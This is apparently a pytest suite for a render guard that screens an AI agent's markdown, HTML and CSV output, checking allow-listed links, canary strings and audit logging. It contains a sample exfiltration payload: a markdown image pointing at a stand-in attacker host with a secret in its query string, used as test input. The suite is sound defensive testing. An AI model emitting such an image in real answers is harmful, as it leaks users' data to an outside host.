"""The render guard in front of a run's answers, over the real processes (E5, E7)."""

from __future__ import annotations

import asyncio
import os
import signal
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

import lockgate as lg
from gate_fixtures import CONFIG, gate_scope
from lockgate.audit import reader
from lockgate.audit.rows import StoredRow
from lockgate.contract import wire
from lockgate.gate import start
from lockgate.render import Guard

DOCS = "https://docs.example.com/guide"
NEWS = "https://news.example.org/story?id=7"
RECEIPT = "https://files.example.net/r/ord_1?sig=abc"
HOSTILE = "![x](https://evil.example/?d=secret-value) and more"
CANARY = "canary-synthetic-0123456789"
OPERATIONS = '''
import lockgate as lg

ops = lg.Operations()


class Order(lg.Args):
    order: lg.Id["ord"]


class File(lg.Result):
    url: lg.SafeUrl
    note: str


class Receipt(lg.Result):
    first: File
    rest: list[File] = []
    where: str = ""


def receipt(order: str) -> Receipt:
    base = "https://files.example.net/r/"
    return Receipt(
        first=File(url=f"{base}{order}?sig=abc", note="https://notes.example.net/a"),
        rest=[File(url=f"{base}{order}/{n}?sig=abc", note="") for n in range(2)],
        where="https://where.example.net/a",
    )


@ops.operation(effect="read", timeout=5, max_result=4096)
def get_receipt(call: lg.Call, args: Order) -> Receipt:
    """Where the receipt is."""
    return receipt(args.order)


@ops.operation(effect="write", idempotency=("order",), timeout=5, max_result=4096)
def make_receipt(call: lg.Call, args: Order) -> Receipt:
    """Make one."""
    return receipt(args.order)
'''
RENDER = f"""
[render]
links = ["https://docs.example.com/*"]
images = ["https://cdn.example.com/charts/*"]
canaries = ["{CANARY}"]
"""


def home(folder: Path) -> Path:
    (folder / "render_test_operations.py").write_text(OPERATIONS)
    path = folder / "lockgate.toml"
    path.write_text(CONFIG.replace("gate_test_operations", "render_test_operations") + RENDER)
    return path


def scope() -> lg.Scope:
    return gate_scope(get_receipt={}, make_receipt={})


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return home(tmp_path_factory.mktemp("render"))


@pytest.fixture(scope="module")
def render_gate(deployment: Path) -> Iterator[lg.sync.Gate]:
    with lg.sync.Gate(deployment) as opened:
        yield opened


@pytest.fixture
def run(render_gate: lg.sync.Gate) -> Iterator[lg.sync.Run]:
    with render_gate.run_scope(scope()) as opened:
        yield opened


def rows(deployment: Path, run: lg.Run | lg.sync.Run) -> list[StoredRow]:
    """The render rows of one run as they stand in the database at this moment."""
    found = reader.tail(deployment.parent / "audit.db", 10_000, follow=False)
    return [row for row in found if row.phase == "render" and row.run == run.id]


def test_an_allowed_link_lives_and_a_denied_image_has_its_row_before_the_text(
    render_gate: lg.sync.Gate, run: lg.sync.Run, deployment: Path
):
    """E5: the row is in the database when the caller has the text; it names user, agent, run, sink and host alone."""
    shown = render_gate.render.markdown(f"[guide]({DOCS}) {HOSTILE}", run=run)
    (row,) = rows(deployment, run)
    assert shown.text == f"[guide](<{DOCS}>) x and more\n"
    assert (row.user, row.agent, row.tenant, row.run) == ("dana", "atlas", "acme", run.id)
    assert (row.verdict, row.status, row.operation) == ("deny", "denied", "render.markdown")
    assert row.detail["destination"] == "evil[.]example"
    assert (row.detail["sink"], row.detail["kind"]) == ("markdown", "image")
    assert "secret-value" not in repr(row)


def test_an_answer_with_nothing_to_refuse_leaves_no_row(render_gate: lg.sync.Gate, run: lg.sync.Run, deployment: Path):
    assert render_gate.render.html(f"[guide]({DOCS})", run=run).denials == ()
    assert rows(deployment, run) == []


def test_what_the_user_wrote_is_a_link_of_this_run_alone(render_gate: lg.sync.Gate, run: lg.sync.Run):
    """E5: byte for byte, as a link and not as an image, and unknown to the next run."""
    answer = f"[story]({NEWS})"
    assert NEWS not in render_gate.render.markdown(answer, run=run).text
    run.render.add_message(f"please read {NEWS}, thanks")
    assert f"<{NEWS}>" in render_gate.render.markdown(answer, run=run).text
    assert NEWS not in render_gate.render.markdown(f"![story]({NEWS})", run=run).text
    assert NEWS + "8" not in render_gate.render.markdown(f"[story]({NEWS}8)", run=run).text
    with render_gate.run_scope(scope()) as other:
        assert NEWS not in render_gate.render.markdown(answer, run=other).text


@pytest.mark.parametrize("operation", ["get_receipt", "make_receipt"])
@pytest.mark.parametrize("via", ["tool", "code"])
def test_a_declared_field_makes_its_url_live_and_no_other_field_does(
    render_gate: lg.sync.Gate, operation: str, via: str
):
    """E5: `lg.SafeUrl` fields of calls by a tool and by code, nested ones too, a repeated write's as well."""
    order = f"ord_{7 if via == 'tool' else 8}"
    url = RECEIPT.replace("ord_1", order)
    second = url.replace("?", "/1?")
    answer = f"![r]({url}) [s]({second}) [n](https://notes.example.net/a) [w](https://where.example.net/a)"
    for _ in range(2):
        with render_gate.run_scope(scope()) as run:
            assert "<https" not in render_gate.render.markdown(answer, run=run).text
            if via == "tool":
                run.call(operation, order=order)
            else:
                assert run.code(f"host.call({operation!r}, order={order!r})['where']").ok
            text = render_gate.render.markdown(answer, run=run).text
            assert f"![r](<{url}>) [s](<{second}>)" in text
            assert "(<https://notes" not in text
            assert "(<https://where" not in text


def test_the_latch_leaves_what_is_known_alone(render_gate: lg.sync.Gate, run: lg.sync.Run):
    """E7: prefix rules stop, provenance stays."""
    run.render.add_message(NEWS)
    answer = f"[guide]({DOCS}) [story]({NEWS})"
    assert f"<{DOCS}>" in render_gate.render.markdown(answer, run=run).text
    run.render.latch()
    text = render_gate.render.markdown(answer, run=run).text
    assert f"<{NEWS}>" in text
    assert f"<{DOCS}>" not in text


def test_rows_are_bounded_and_say_what_they_leave_out(render_gate: lg.sync.Gate, run: lg.sync.Run, deployment: Path):
    many = " ".join(f"![x](https://h{n}.example/a)" for n in range(100)) + " ![x](https://h0.example/b)" * 5
    render_gate.render.markdown(many, run=run)
    found = rows(deployment, run)
    assert len(found) == wire.MAX_RENDER_ROWS + 1
    assert found[0].detail["count"] == 6
    assert (found[-1].reason, found[-1].detail["count"]) == ("left_out", 100 - wire.MAX_RENDER_ROWS)


def test_a_canary_withholds_the_answer_and_ends_the_run(render_gate: lg.sync.Gate, deployment: Path):
    with render_gate.run_scope(scope()) as run:
        shown = render_gate.render.text(f"it is {CANARY}", run=run)
        assert shown.withheld
        assert CANARY not in shown.text
        (row,) = rows(deployment, run)
        assert (row.reason, row.detail["severity"]) == ("canary", "critical")
        with pytest.raises(lg.HostFault):
            run.call("get_receipt", order="ord_1")
        with pytest.raises(lg.HostFault):
            render_gate.render.text("anything", run=run)


@pytest.mark.parametrize("size", [1, 7, 1000])
def test_a_stream_records_before_it_shows(render_gate: lg.sync.Gate, run: lg.sync.Run, deployment: Path, size: int):
    text = f"[guide]({DOCS})\n\n{HOSTILE}\n\n{HOSTILE}\n\nend\n"
    stream = render_gate.render.stream("markdown", run=run)
    shown = ""
    for at in range(0, len(text), size):
        shown += stream.feed(text[at : at + size])
        assert "x and more" not in shown or rows(deployment, run)
    shown += stream.close()
    assert f"<{DOCS}>" in shown
    assert "evil.example" not in shown
    assert [row.detail["destination"] for row in rows(deployment, run)] == ["evil[.]example"]


def test_a_file_and_a_table_have_rows_of_their_sink(render_gate: lg.sync.Gate, run: lg.sync.Run, deployment: Path):
    assert render_gate.render.office(b"no archive", run=run) != ()
    assert render_gate.render.csv([["=SUM(A1)"]], run=run).text
    assert [row.operation for row in rows(deployment, run)] == ["render.office", "render.csv"]


def test_every_sink_of_the_guard_is_a_sink_of_the_gate(render_gate: lg.sync.Gate, run: lg.sync.Run):
    """No place to show something lacks the method that records: a new sink of the guard fails this."""
    sinks = {name for name in vars(Guard) if not name.startswith("_")}
    assert sinks == {name for name in vars(type(render_gate.render)) if not name.startswith("_")}
    for name in sorted(sinks - {"headers", "stream", "office", "csv"}):
        assert getattr(render_gate.render, name)("{}", run=run) is not None
    assert "Content-Security-Policy" in render_gate.render.headers()


def test_without_the_extra_rich_sinks_say_what_to_install(
    render_gate: lg.sync.Gate, run: lg.sync.Run, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setitem(sys.modules, "pyromark", None)
    with pytest.raises(lg.HostFault) as caught:
        render_gate.render.markdown("x", run=run)
    assert "lockgate[render]" in caught.value.next_step
    assert render_gate.render.text("x", run=run).text == "x"


def test_the_run_of_another_gate_is_refused(render_gate: lg.sync.Gate, tmp_path: Path):
    with lg.sync.Gate(home(tmp_path)) as other, other.run_scope(scope()) as run, pytest.raises(lg.ConfigError):
        render_gate.render.markdown("x", run=run)


@pytest.mark.parametrize("victim", ["broker", "audit writer"])
def test_without_audit_nothing_is_shown(tmp_path: Path, victim: str):
    """C5, E5: a refusal that cannot be recorded is an AuditUnavailable, and a stream shows no later part either."""

    async def scene() -> None:
        async with lg.Gate(home(tmp_path)) as gate:
            run = await gate.run_scope(scope()).__aenter__()
            stream = gate.render.stream("markdown", run=run)
            assert (await gate.render.markdown(HOSTILE, run=run)).text == "x and more\n"  # the control
            children = gate._session._children
            assert children is not None
            (child,) = (one for one in children.all if one.name == victim)
            os.kill(child.process.pid, signal.SIGKILL)
            await asyncio.sleep(0.2)
            with pytest.raises(lg.AuditUnavailable) as caught:
                await gate.render.markdown(HOSTILE, run=run)
            assert caught.value.next_step
            with pytest.raises(lg.AuditUnavailable):
                await stream.feed(f"{HOSTILE}\n\nnext\n\n")
            with pytest.raises(lg.AuditUnavailable):
                await stream.feed("harmless\n\nnext\n\n")

    async def bounded() -> None:
        async with asyncio.timeout(60):
            await scene()

    asyncio.run(bounded())


def test_the_rules_stay_in_the_process_that_shows(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Canaries and rules are told to no child: the configuration that the broker reads holds none of them."""
    handed: list[bytes] = []

    def spy(config: lg.Config) -> int:
        handed.append(config.to_json())
        return start.config_file(config)

    monkeypatch.setattr("lockgate.gate._sync.session.config_file", spy)
    with lg.sync.Gate(home(tmp_path)) as gate, gate.run_scope(scope()) as run:
        assert CANARY.encode() in gate.config.to_json()  # the control
        assert gate.render.text(CANARY, run=run).withheld
    (given,) = handed
    assert CANARY.encode() not in given
    assert b"docs.example.com" not in given
